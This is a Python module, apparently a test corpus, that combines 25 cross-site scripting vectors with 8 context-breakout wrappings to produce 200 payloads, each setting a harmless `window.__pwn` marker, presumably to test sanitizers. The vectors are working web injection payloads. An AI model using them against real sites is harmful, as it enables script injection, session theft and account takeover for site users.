"""Two hundred ways to have a page run something: the families of the known cheat sheets, in several wrappings.

Each sets `window.__pwn` when it runs.
"""

RUN = "window.__pwn=1"
VECTORS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    "<iframe srcdoc='<script>parent.__pwn=1</script>'></iframe>",
    '<iframe src="javascript:parent.__pwn=1"></iframe>',
    f'<a href="javascript:{RUN}">x</a>',
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<style>@import 'javascript:{RUN}';</style>",
    f"<link rel=stylesheet href='javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href='javascript:{RUN}//'>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
)
WRAPPINGS = (
    "{}",
    '">{}',
    "'>{}",
    "</script>{}",
    "--></textarea></title>{}",
    "]]>{}",
    "{{{{7*7}}}}{}",
    "\u202e{}\u2028",
)
PAYLOADS = tuple(wrapping.format(vector) for vector in VECTORS for wrapping in WRAPPINGS)
